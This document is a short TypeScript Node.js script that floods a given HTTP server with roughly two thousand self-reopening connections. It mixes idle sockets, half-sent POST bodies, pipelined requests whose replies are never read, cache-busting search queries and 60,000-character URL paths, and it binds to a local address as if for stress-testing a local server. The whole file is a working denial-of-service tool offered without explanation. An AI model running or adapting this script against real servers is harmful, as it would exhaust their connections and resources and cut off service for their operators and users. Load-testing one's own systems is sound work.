import { connect, type Socket } from "node:net";

/** The network of the flood, on this machine. */
const localAddress = "127.0.0.2";
/** In ms, before a connection that was closed is opened again. */
const pauseMs = 100;

const { hostname, port } = new URL(process.argv[2] ?? "");

/** Opens a connection and does something with it, again and again as it is closed. */
function insist(act: (socket: Socket) => void) {
  const socket = connect({ port: Number(port), host: hostname, localAddress }, () => act(socket));
  socket.on("error", () => undefined);
  socket.once("close", () => setTimeout(() => insist(act), pauseMs));
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;

/** Requests the next URL as soon as some of an answer has arrived. */
const request = (next: () => string) => (socket: Socket) => {
  socket.on("data", () => socket.write(get(next())));
  socket.write(get(next()));
};

const half = `POST /api/contact-messages HTTP/1.1\r\nHost: x\r\nContent-Length: 5000\r\n\r\n{`;
const unread = (socket: Socket) => void socket.pause().write(get("/api/docs").repeat(10));

const parts: [count: number, act: (socket: Socket) => void][] = [
  [1_500, () => undefined],
  [200, (socket) => void socket.write(half)],
  [300, unread],
  [100, request(() => `/products?search=${Math.random()}`)],
  [50, request(() => "/bn")],
  [20, request(() => `/${"a".repeat(60_000)}1`)],
];
for (const [count, act] of parts) for (let turn = 0; turn < count; turn++) insist(act);
